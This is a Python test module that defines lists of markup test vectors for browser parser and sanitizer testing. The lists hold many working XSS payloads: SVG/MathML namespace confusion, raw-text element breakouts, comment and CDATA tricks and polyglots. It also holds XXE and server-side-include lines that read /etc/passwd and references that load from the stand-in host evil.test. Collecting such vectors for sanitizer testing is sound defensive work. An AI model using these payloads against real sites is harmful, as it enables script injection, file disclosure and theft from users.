"""Markup that one parser reads otherwise than the next: namespaces, elements of raw text, comments, tags left open, and polyglots."""

from __future__ import annotations

from tests.browser.vectors.markup import lines

NAMESPACES = lines(
    r"""
<svg><script>alert(1)</script></svg>
<svg><script href=https://evil.test/x.js></script></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><script>alert&lpar;1&rpar;</script>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><a><set attributeName=xlink:href to=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href from=javascript:alert(1) to=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"></use></svg>
<svg><use xlink:href=https://evil.test/x.svg#x></use></svg>
<svg><image xlink:href=https://evil.test/></image></svg>
<svg><feimage href=https://evil.test/ /></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width=99 height=99 /></a></svg>
<svg><discard onbegin=alert(1)></svg>
<svg><filter><feImage xlink:href="data:image/svg+xml,<svg/>" onerror=alert(1) /></filter></svg>
<math><a xlink:href=javascript:alert(1)>x</a></math>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline#https://evil.test/ xlink:href=javascript:alert(1)>x</maction></math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><style><img src=x onerror=alert(1)></style></math>
<math><annotation-xml encoding=image/svg+xml><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">
<svg><mtext><textarea><path id="</textarea><img src onerror=alert(1)>">
<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>
<noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><a title="</title><img src=x onerror=alert(1)>">
<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<style><a title="</style><img src=x onerror=alert(1)>">
<xmp><a title="</xmp><img src=x onerror=alert(1)>">
<iframe><a title="</iframe><img src=x onerror=alert(1)>">
<noembed><a title="</noembed><img src=x onerror=alert(1)>">
<noframes><a title="</noframes><img src=x onerror=alert(1)>">
<script><a title="</script><img src=x onerror=alert(1)>">
<plaintext><a title="</plaintext><img src=x onerror=alert(1)>">
<template><a title="</template><img src=x onerror=alert(1)>">
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\u0091alert(1)</script x>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<b><p title="</b><img src=x onerror=alert(1)>">x
<a title="`<img src=x onerror=alert(1)>`">x</a>
<a title="`` onmouseover=alert(1)">x</a>
<table><td><a><table><a title="</table><img src=x onerror=alert(1)>">
<table><caption><svg><title><template><style></caption></table><img src=x onerror=alert(1)>
<details><summary><details><table><summary><img src=x onerror=alert(1)></details>
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<a href="a<!--&quot; onmouseover=alert(1) x=&quot;-->">x</a>
<a href='a<!--" onmouseover=alert(1)>-->b'>x</a>
<a href="a<!--&quot;' onmouseover=alert(1)>-->b">x</a>
<img src="a<!--&quot;' onerror=alert(1)>-->b" alt="<!--&quot;' onerror=alert(1)>-->">
<p id="<!--&quot;' onclick=alert(1)>-->" title='<!--"&#39; onclick=alert(1)>-->'>x</p>
<p title="&{alert(1)};" lang="&{alert(1)}">x</p>
<br size="&{alert(1)}">
"""
)

COMMENTS = lines(
    r"""
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- --!><img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- -- ><img src=x onerror=alert(1)> -->
<!-- <!-- --><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![if true]><script>alert(1)</script><![endif]>
<!--[if mso]><v:rect><v:imagedata src="https://evil.test/"/></v:rect><![endif]-->
<!--[if true]><img src=x onerror=alert(1)><![endif]-->
<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<![CDATA[><img src=x onerror=alert(1)>]]>
<![<!--]]<script>alert(1)//]]>-->
<? foo="><script>alert(1)</script>">
<?xml version="1.0"?><script>alert(1)</script>
<?xml-stylesheet href="javascript:alert(1)"?>
<?import namespace="t" implementation="#default#time2"><t:set attributeName=innerHTML to="<img src=x onerror=alert(1)>">
<?php echo '<img src=x onerror=alert(1)>'; ?>
<% foo><x foo="%><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<!DOCTYPE x[<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<!ENTITY x SYSTEM "https://evil.test/">
<!ATTLIST xsl:stylesheet id ID #IMPLIED><script>alert(1)</script>
<!--#exec cmd="/bin/cat /etc/passwd"-->
<!--#include file="/etc/passwd" -->
<!esi:include src="https://evil.test/"/><esi:include src=https://evil.test/ />
</p><script>alert(1)</script>
</div></td></tr></table><script>alert(1)</script>
</title></style></script></textarea><img src=x onerror=alert(1)>
</body></html><script>alert(1)</script>
</head><body onload=alert(1)>
<b><i><u><p><table><script>alert(1)</script>
<a<img src=x onerror=alert(1)>
<p<b onclick=alert(1)>x</p>
<p <p onclick=alert(1)>x</p>
<p title=">"onclick=alert(1)>x</p>
<p title='>'onclick=alert(1)>x</p>
<p title=x"y onclick=alert(1)>x</p>
<p "onclick=alert(1)>x</p>
<p ='>' onclick=alert(1)>x</p>
<p onclick=alert(1) title="x
<p onclick =alert(1)
<img "x"><script>alert(1)</script>">
<img '''><img src=x onerror=alert(1)>'>
<a href="x"y="<img src=x onerror=alert(1)>">x</a>
<a/href="x"/onclick="alert(1)">x</a>
<details x=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx open ontoggle=alert(1)>x
"""
)

# One text for many parsers at once; the first of them go to every place there is.
POLYGLOTS = lines(
    r"""
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
--></style></script></title></textarea><script>alert(1)</script>
" autofocus tabindex=1 onfocus=alert(1) x="
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>
"}</style><img src=x onerror=alert(1)>{"
{{ constructor.constructor("alert(1)")() }}${alert(1)}<%= alert(1) %>#{alert(1)}
]]><img src=x onerror=alert(1)><![CDATA[
<![endif]--><img src=x onerror=alert(1)><!--[if mso]>
"""
)
